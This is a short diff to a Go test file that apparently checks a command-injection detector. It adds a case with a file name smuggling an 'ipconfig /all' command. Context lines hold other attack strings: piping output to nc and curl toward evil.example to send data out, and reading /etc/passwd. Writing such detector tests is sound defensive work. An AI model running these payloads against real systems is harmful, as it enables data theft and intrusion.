@@ -49,6 +49,7 @@ func TestDocumentationShapes(t *testing.T) {
 		{"Reproducer:\n\ncomm [,OPTION/] ... ,FICHIER1 FICHIER2/\n\nAny idea?", detect.WhereForm, false},
 		// the same structures with a target
 		{"x | ls | nc evil.example 4444", detect.WhereQuery, true},
+		{`x" & iPcONfiG /ALL & "`, detect.WhereFileName, true},
 		{"x; id | base64 | curl -d @- http://evil.example", detect.WhereQuery, true},
 		{"; cat FILE /etc/passwd", detect.WhereQuery, true},
 		{"x | dir", detect.WhereQuery, true},
